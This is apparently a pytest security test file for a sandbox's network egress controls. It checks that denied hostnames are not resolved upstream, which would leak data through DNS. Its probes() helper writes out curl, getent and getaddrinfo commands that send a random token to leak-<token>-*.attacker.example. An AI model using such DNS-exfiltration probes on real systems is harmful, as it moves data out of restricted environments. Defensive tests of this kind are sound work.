"""Attack: exfiltrate data through DNS by asking the egress path to resolve ``<data>.attacker.example``.

Issue 13: with a CIDR allow rule, or with ``on_unknown="ask"``, the proxy used to resolve every
name upstream before deciding, so a name that is then denied had already carried its labels to
the upstream resolver (which an attacker's authoritative server sees). The fake world's DNS
server logs every query it receives; no query may carry the attacker's random label, whichever
way the sandbox asks (HTTP proxy, CONNECT, the sandbox's resolver via getent or getaddrinfo).
"""

from __future__ import annotations

import secrets
import time

import pytest

from tests.network.conftest import ALLOWED, net_home, world  # noqa: F401 - the fake internet fixtures
from warmbox import Network, Sandbox

pytestmark = pytest.mark.sandbox
CURL = "curl -sS --max-time 8 "


def sh(sb, cmd: str, timeout: float = 40):
    return sb.commands.run(["/bin/bash", "-c", cmd], timeout=timeout)


def probes(token: str) -> dict[str, str]:
    """Every way a sandbox user gets a name resolved; each name carries ``token`` in a label."""
    return {
        f"leak-{token}-http.attacker.example": f"{CURL} -o /dev/null -w '%{{http_code}}' "
        f"http://leak-{token}-http.attacker.example/",
        f"leak-{token}-connect.attacker.example": f"{CURL} -o /dev/null https://leak-{token}-connect.attacker.example/",
        f"leak-{token}-getent.attacker.example": f"getent hosts leak-{token}-getent.attacker.example",
        f"leak-{token}-gai.attacker.example": 'python3 -c "import socket; '
        f"print(socket.getaddrinfo('leak-{token}-gai.attacker.example', 80))\"",
    }


def leaked(world, token: str) -> list[dict]:
    return [q for q in world.log("dns") if token in q["name"]]


def run_probes(sb, world, token: str) -> None:
    for name, cmd in probes(token).items():
        r = sh(sb, cmd)
        assert r.exit_code != 0 or r.stdout == "403", (name, r.stdout, r.stderr)
    time.sleep(0.3)  # the fake DNS server logs asynchronously to our reads
    leaks = sorted({(q["name"], q["qtype"]) for q in leaked(world, token)})
    assert not leaks, f"denied names reached the upstream resolver: {leaks}"
    assert world.log("attacker") == []
    # every attempt is audited (the proxy's for HTTP/CONNECT, the resolver's for the lookups)
    denied = {e.host for e in sb.network.log() if e.decision == "deny"}
    assert set(probes(token)) <= denied, denied


def test_cidr_allow_rule_does_not_resolve_unknown_names(net_home, world):
    world.clear_logs()
    token = secrets.token_hex(6)
    with Sandbox.create(tier="container", network=Network(allow=["198.51.100.0/24"]), timeout=120, home=net_home) as sb:
        run_probes(sb, world, token)
        # the CIDR still opens IP literals inside it, end to end
        r = sh(sb, f"{CURL} http://{ALLOWED}/hello.txt")
        assert r.exit_code == 0 and r.stdout == "hello from the allowed site\n", r.stderr
        assert [rec["path"] for rec in world.log("allowed")] == ["/hello.txt"]


def test_cidr_rule_next_to_name_rules_resolves_allowed_names_only(net_home, world):
    world.clear_logs()
    token = secrets.token_hex(6)
    net = Network(allow=["allowed.test", "203.0.113.0/24"])
    with Sandbox.create(tier="container", network=net, timeout=120, home=net_home) as sb:
        run_probes(sb, world, token)
        r = sh(sb, f"{CURL} http://allowed.test/hello.txt")
        assert r.exit_code == 0 and r.stdout == "hello from the allowed site\n", r.stderr
        r = sh(sb, "getent hosts allowed.test")
        assert r.exit_code == 0 and ALLOWED in r.stdout
        assert {q["name"] for q in world.log("dns")} == {"allowed.test"}
        assert [rec["path"] for rec in world.log("allowed")] == ["/hello.txt"]


@pytest.mark.parametrize("tier", ["container", "gvisor"])
def test_ask_is_answered_before_any_lookup(net_home, world, tier):
    world.clear_logs()
    token = secrets.token_hex(6)
    asked: list[tuple[str, bool]] = []

    def hook(req):
        # record whether the name had already gone upstream when we were asked
        asked.append((req.host, any(q["name"] == req.host for q in world.log("dns"))))
        return "allow_once" if req.host == "allowed.test" else "deny"

    with Sandbox.create(
        tier=tier, network=Network(on_unknown="ask"), on_approval=hook, timeout=120, home=net_home
    ) as sb:
        run_probes(sb, world, token)
        proxied = [n for n in probes(token) if n.endswith(("-http.attacker.example", "-connect.attacker.example"))]
        assert [h for h, _ in asked] == proxied  # the proxy asked about each; nothing went upstream first
        assert not any(before for _, before in asked)
        rules = {e.host: e.rule for e in sb.network.log() if e.kind in ("http", "connect")}
        assert all(rules[n] == "approval:deny" for n in proxied), rules
        # an approved name is resolved and reached, end to end
        r = sh(sb, f"{CURL} http://allowed.test/hello.txt")
        assert r.exit_code == 0 and r.stdout == "hello from the allowed site\n", r.stderr
        assert asked[-1] == ("allowed.test", False)
        assert "allowed.test" in {q["name"] for q in world.log("dns")}
        assert [rec["path"] for rec in world.log("allowed")] == ["/hello.txt"]
